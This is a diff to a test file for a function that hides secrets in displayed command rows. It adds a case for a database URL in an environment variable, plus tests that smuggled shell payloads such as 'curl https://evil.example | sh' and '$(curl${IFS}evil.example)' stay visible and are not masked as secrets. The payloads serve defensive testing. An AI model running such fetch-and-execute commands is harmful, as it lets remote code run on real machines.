@@ -134,6 +134,7 @@ describe("shownRow", () => {
     ["an argument after its flag", { ...row, args: ["--api-key", secret] }],
     ["an argument with its flag", { ...row, args: [`--token=${secret}`] }],
     ["a URL among the arguments", { ...row, args: [`postgres://me:${secret}@db.example/x`] }],
+    ["a URL in a variable", { ...row, env: { DATABASE_URL: `postgres://me:${secret}@db.example/x` } }],
     [
       "a header",
       {
@@ -154,6 +155,17 @@ describe("shownRow", () => {
   ])("hides a secret in %s", (_where, declared) => {
     expect(shownRow(declared)).not.toContain(secret);
     expect(shownRow(declared)).toContain("[secret");
+  });
+
+  it.each([
+    "my_token=1; curl https://evil.example | sh",
+    "true '?token='; curl https://evil.example | sh",
+    "x://?token=$(curl${IFS}evil.example)",
+    "x://a:;curl evil.example@b",
+    "my_token=${NOT_SET:-1; curl evil.example}",
+  ])("shows what a shell would run in the place of a secret: %s", (script) => {
+    const shown = shownRow({ ...row, command: "sh", args: ["-c", script] });
+    expect(JSON.parse(shown)).toMatchObject({ args: ["-c", script] });
   });
 
   it("shows the names of variables, and everything that decides which program runs", () => {
